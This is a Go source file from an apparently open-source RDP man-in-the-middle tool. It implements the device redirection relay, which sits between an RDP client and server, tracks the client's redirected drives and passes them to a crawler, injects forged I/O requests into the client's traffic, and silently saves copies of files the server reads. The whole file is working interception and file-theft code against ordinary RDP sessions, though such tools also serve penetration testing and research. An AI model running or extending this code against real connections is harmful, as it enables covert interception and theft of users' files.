// RDP MITM Go - Intercepting relay for RDP sessions
// Copyright (C) 2025 - Pepijn van der Stap, pepijn@neosecurity.nl
//
// This program is free software: you can redistribute it and/or modify
// it under the terms of the GNU Affero General Public License as published
// by the Free Software Foundation, either version 3 of the License, or
// (at your option) any later version.
//
// This program is distributed in the hope that it will be useful,
// but WITHOUT ANY WARRANTY; without even the implied warranty of
// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
// GNU Affero General Public License for more details.
//
// You should have received a copy of the GNU Affero General Public License
// along with this program.  If not, see <https://www.gnu.org/licenses/>.

package mitm

import (
	"fmt"
	"log/slog"

	"github.com/x-stp/rdp-mitm-go/internal/logger"
	"github.com/x-stp/rdp-mitm-go/pkg/rdp"
	"github.com/x-stp/rdp-mitm-go/pkg/recording"
)

type rdpdrSender interface {
	SendPDU(pdu *rdp.DeviceRedirectionPDU) error
}

type openFileKey struct {
	deviceID uint32
	fileID   uint32
}

// DeviceRedirectionRelay mirrors rdpdr traffic. The server sends I/O requests
// to the client's redirected devices and the client completes them; the relay
// correlates the two, saves files the server reads when extraction is on and
// interleaves forged requests of its own.
type DeviceRedirectionRelay struct {
	// Extract saves files the server reads from redirected drives
	Extract bool
	// OnUserLoggedOn runs when the server reports the user logged on
	OnUserLoggedOn func()

	forged  *ForgedEngine
	crawler *Crawler
	store   *FileStore
	log     *slog.Logger
	record  func(recording.Event)

	layers   [2]rdpdrSender
	requests map[forgedKey]*rdp.DeviceIORequest
	mappings map[openFileKey]*FileMapping
}

// NewDeviceRedirectionRelay creates a relay. Forged requests are created by
// engine, whose send function should be the relay's SendForged.
func NewDeviceRedirectionRelay(engine *ForgedEngine, crawler *Crawler, store *FileStore, log *slog.Logger, record func(recording.Event)) *DeviceRedirectionRelay {
	if record == nil {
		record = func(recording.Event) {}
	}
	return &DeviceRedirectionRelay{
		forged:   engine,
		crawler:  crawler,
		store:    store,
		log:      log.With(logger.Channel(rdp.ChannelDeviceRedirection)),
		record:   record,
		requests: make(map[forgedKey]*rdp.DeviceIORequest),
		mappings: make(map[openFileKey]*FileMapping),
	}
}

func (r *DeviceRedirectionRelay) Bind(side Side, l rdpdrSender) { r.layers[side] = l }

func (r *DeviceRedirectionRelay) Observer(side Side) *DeviceRedirectionObserver {
	return &DeviceRedirectionObserver{relay: r, side: side}
}

// DeviceRedirectionObserver receives the rdpdr PDUs of one side.
type DeviceRedirectionObserver struct {
	relay *DeviceRedirectionRelay
	side  Side
}

func (o *DeviceRedirectionObserver) OnDeviceRedirection(pdu *rdp.DeviceRedirectionPDU) error {
	if o.side == SideClient {
		return o.relay.fromClient(pdu)
	}
	return o.relay.fromServer(pdu)
}

func (r *DeviceRedirectionRelay) send(to Side, pdu *rdp.DeviceRedirectionPDU) error {
	l := r.layers[to]
	if l == nil {
		return fmt.Errorf("device redirection channel to %s is not joined", to)
	}
	return l.SendPDU(pdu)
}

// SendForged sends a forged I/O request to the client.
func (r *DeviceRedirectionRelay) SendForged(req *rdp.DeviceIORequest) error {
	return r.send(SideClient, rdp.NewCorePDU(rdp.PAKID_CORE_DEVICE_IOREQUEST, req.Encode()))
}

func (r *DeviceRedirectionRelay) fromServer(pdu *rdp.DeviceRedirectionPDU) error {
	if pdu.Component == rdp.RDPDR_CTYP_CORE {
		switch pdu.PacketID {
		case rdp.PAKID_CORE_DEVICE_IOREQUEST:
			req, err := rdp.ParseDeviceIORequest(pdu.Payload)
			if err != nil {
				return err
			}
			r.requests[forgedKey{req.DeviceID, req.CompletionID}] = req
		case rdp.PAKID_CORE_USER_LOGGEDON:
			r.log.Info("User logged on")
			if r.OnUserLoggedOn != nil {
				r.OnUserLoggedOn()
			}
		}
	}
	return r.send(SideClient, pdu)
}

func (r *DeviceRedirectionRelay) fromClient(pdu *rdp.DeviceRedirectionPDU) error {
	if pdu.Component == rdp.RDPDR_CTYP_CORE {
		switch pdu.PacketID {
		case rdp.PAKID_CORE_DEVICELIST_ANNOUNCE:
			devices, err := rdp.ParseDeviceListAnnounce(pdu.Payload)
			if err != nil {
				return err
			}
			r.announced(devices)
		case rdp.PAKID_CORE_DEVICELIST_REMOVE:
			ids, err := rdp.ParseDeviceListRemove(pdu.Payload)
			if err != nil {
				return err
			}
			for _, id := range ids {
				r.removed(id)
			}
		case rdp.PAKID_CORE_DEVICE_IOCOMPLETION:
			resp, err := rdp.ParseDeviceIOResponse(pdu.Payload)
			if err != nil {
				return err
			}
			if forged, err := r.forged.Handle(resp); forged {
				return err
			}
			r.completed(resp)
		}
	}
	return r.send(SideServer, pdu)
}

func (r *DeviceRedirectionRelay) announced(devices []rdp.DeviceAnnounce) {
	for _, d := range devices {
		r.log.Info("Device announced",
			logger.DeviceID(d.DeviceID), logger.DeviceName(d.DosName), slog.Uint64("device_type", uint64(d.DeviceType)))
		if ev, err := recording.NewJSONEvent(recording.EventDeviceAnnounce, recording.DeviceInfo{
			DeviceID:   d.DeviceID,
			DeviceType: d.DeviceType,
			Name:       d.DosName,
		}); err == nil {
			r.record(ev)
		}
		if d.DeviceType == rdp.RDPDR_DTYP_FILESYSTEM {
			r.crawler.AddDrive(d.DeviceID, d.DosName)
		}
	}
}

func (r *DeviceRedirectionRelay) removed(deviceID uint32) {
	r.log.Info("Device removed", logger.DeviceID(deviceID))
	r.crawler.RemoveDevice(deviceID)
	r.forged.AbandonDevice(deviceID)
	for key, m := range r.mappings {
		if key.deviceID == deviceID {
			m.Abandon()
			delete(r.mappings, key)
		}
	}
	for key := range r.requests {
		if key.deviceID == deviceID {
			delete(r.requests, key)
		}
	}
}

// completed matches a real completion with its request.
func (r *DeviceRedirectionRelay) completed(resp *rdp.DeviceIOResponse) {
	key := forgedKey{resp.DeviceID, resp.CompletionID}
	req, ok := r.requests[key]
	if !ok {
		r.log.Debug("Completion without request", logger.DeviceID(resp.DeviceID), logger.CompletionID(resp.CompletionID))
		return
	}
	delete(r.requests, key)
	if !r.Extract {
		return
	}
	if err := r.extract(req, resp); err != nil {
		r.log.Warn("File extraction failed", logger.DeviceID(req.DeviceID), logger.FileID(req.FileID), logger.Err(err))
	}
}

// extract follows a file the server reads: open with read intent starts a
// mapping, reads fill it, close saves it.
func (r *DeviceRedirectionRelay) extract(req *rdp.DeviceIORequest, resp *rdp.DeviceIOResponse) error {
	switch req.MajorFunction {
	case rdp.IRP_MJ_CREATE:
		if resp.IoStatus != rdp.STATUS_SUCCESS {
			return nil
		}
		create, err := rdp.ParseDeviceCreateRequest(req.Payload)
		if err != nil || !create.ReadIntent() {
			return err
		}
		created, err := rdp.ParseDeviceCreateResponse(resp.Payload)
		if err != nil {
			return err
		}
		m, err := r.store.Open(req.DeviceID, create.Path)
		if err != nil {
			return err
		}
		key := openFileKey{req.DeviceID, created.FileID}
		if old, ok := r.mappings[key]; ok {
			old.Abandon()
		}
		r.mappings[key] = m

	case rdp.IRP_MJ_READ:
		m, ok := r.mappings[openFileKey{req.DeviceID, req.FileID}]
		if !ok || resp.IoStatus != rdp.STATUS_SUCCESS {
			return nil
		}
		read, err := rdp.ParseDeviceReadRequest(req.Payload)
		if err != nil {
			return err
		}
		data, err := rdp.ParseDeviceReadResponse(resp.Payload)
		if err != nil {
			return err
		}
		if err := m.Write(read.Offset, data); err != nil {
			m.Abandon()
			delete(r.mappings, openFileKey{req.DeviceID, req.FileID})
			return err
		}
		return nil

	case rdp.IRP_MJ_CLOSE:
		key := openFileKey{req.DeviceID, req.FileID}
		m, ok := r.mappings[key]
		if !ok {
			return nil
		}
		delete(r.mappings, key)
		// opened for reading but never read
		if m.Size() == 0 {
			m.Abandon()
			return nil
		}
		_, err := m.Finalize()
		return err
	}
	return nil
}

// OpenFiles returns the number of files being extracted.
func (r *DeviceRedirectionRelay) OpenFiles() int { return len(r.mappings) }

// Close discards unfinished extractions.
func (r *DeviceRedirectionRelay) Close() {
	for _, m := range r.mappings {
		m.Abandon()
	}
	clear(r.mappings)
	clear(r.requests)
}
